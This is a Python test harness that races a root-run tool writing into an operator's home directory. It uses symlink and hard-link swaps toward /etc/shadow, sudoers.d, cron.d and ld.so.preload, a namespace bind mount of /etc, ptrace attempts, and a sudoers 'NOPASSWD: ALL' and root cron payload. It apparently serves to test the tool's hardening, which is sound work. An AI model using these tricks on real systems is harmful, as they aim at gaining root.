"""Runs on the server as the operator, who has no sudo: tries to make root write, give away or show what the operator may not.

Its argument is for how many seconds. Prints as JSON what was tried how often, and what of it should never have worked.
"""

import contextlib
import ctypes
import json
import os
import random
import subprocess
import sys
import time
from collections import Counter
from concurrent.futures import ProcessPoolExecutor
from pathlib import Path

HOME = Path.home()
# Folder and file that root's run writes there, and the names that it may use on its way
PLACES = ((HOME / ".ssh", "authorized_keys"), (HOME / ".kube", "config"))
SUFFIXES = ("", ".shaka-candidate", ".shaka-new", ".shaka-candidate.shaka-new")
TARGETS = (
    "/etc/shadow", "/etc/passwd", "/etc/sudoers.d/50-shaka-operator", "/etc/sudoers.d/zz", "/root/.ssh/authorized_keys", "/etc/cron.d/zz",
    "/etc/ld.so.preload",
)  # fmt: skip
FOLDERS = ("/etc", "/root", "/root/.ssh", "/etc/sudoers.d", "/etc/cron.d", "/usr/local/bin")
RENAME_EXCHANGE, AT_FDCWD, PTRACE_ATTACH = 2, -100, 16
LIBC = ctypes.CDLL(None, use_errno=True)
tried: Counter[str] = Counter()
worked: list[str] = []


def exchange(one: Path, other: Path) -> None:
    """Two names change places in one step: no moment shows neither."""
    if LIBC.renameat2(AT_FDCWD, bytes(one), AT_FDCWD, bytes(other), RENAME_EXCHANGE):
        raise OSError(ctypes.get_errno(), "renameat2")


def link_over_a_name(folder: Path, name: str) -> None:
    decoy = folder / f"decoy-{os.getpid()}"
    decoy.symlink_to(random.choice(TARGETS))
    decoy.rename(folder / (name + random.choice(SUFFIXES)))


def folder_for_a_link(folder: Path, _name: str) -> None:
    decoy = HOME / f"decoy-{os.getpid()}"
    decoy.symlink_to(random.choice(FOLDERS))
    exchange(decoy, folder)
    time.sleep(random.random() * 0.002)
    exchange(decoy, folder)
    decoy.unlink()


def hard_link(folder: Path, name: str) -> None:
    target, place = random.choice(TARGETS[:3]), folder / (name + random.choice(SUFFIXES))
    with contextlib.suppress(FileNotFoundError):
        place.unlink()
    os.link(target, place)
    worked.append(f"a hard link to {target}")


def directory_at_a_name(folder: Path, name: str) -> None:
    place = folder / (name + random.choice(SUFFIXES[1:]))
    with contextlib.suppress(FileNotFoundError):
        place.unlink()
    place.mkdir()
    place.rmdir()


def own_text(folder: Path, name: str) -> None:
    """So that the run has something to put right, in a folder that is one, and each of its files a content of the operator's."""
    if folder.is_symlink():
        folder.unlink()
        folder.mkdir()
    for suffix in SUFFIXES:
        place = folder / (name + suffix)
        if place.is_symlink():
            place.unlink()
        with contextlib.suppress(OSError):
            place.write_text("* * * * * root id\nALL ALL=(ALL) NOPASSWD: ALL\n")


def into_the_runs_process(_folder: Path, _name: str) -> None:
    """The part of the run that has the operator's rights: its memory, its pipes to root's part."""
    for entry in Path("/proc").iterdir():
        with contextlib.suppress(OSError):
            if not entry.name.isdigit() or os.getsid(int(entry.name)) == os.getsid(0):
                continue
            command = (entry / "cmdline").read_bytes()
            if b"python3" not in command or f"Uid:\t{os.getuid()}\t" not in (entry / "status").read_text():
                continue
            tried["met a process of the run"] += 1
            if LIBC.ptrace(PTRACE_ATTACH, int(entry.name), 0, 0) == 0:
                worked.append(f"traced {command[:60]!r}")
            for descriptor in (entry / "fd").iterdir():
                with contextlib.suppress(OSError), descriptor.open("wb"):
                    worked.append(f"opened a descriptor of {command[:60]!r}")


TRICKS = (link_over_a_name, link_over_a_name, folder_for_a_link, hard_link, directory_at_a_name, own_text, own_text, into_the_runs_process)


def attack(until: float) -> tuple[Counter[str], list[str]]:
    """One of several at once."""
    random.seed(os.getpid())
    while time.monotonic() < until:
        trick, (folder, name) = random.choice(TRICKS), random.choice(PLACES)
        tried[trick.__name__] += 1
        with contextlib.suppress(OSError):
            folder.mkdir(exist_ok=True)
            trick(folder, name)
    return tried, worked


seconds = float(sys.argv[1])
bind = f"mount --bind /etc {HOME}/.ssh && sleep {seconds}"
mounts = subprocess.Popen(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", bind], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
with ProcessPoolExecutor(3) as pool:
    outcomes = list(pool.map(attack, [time.monotonic() + seconds] * 3))
mounts.wait()
print(json.dumps({"tried": sum((done for done, _won in outcomes), Counter()), "worked": sorted({line for _done, won in outcomes for line in won})}))
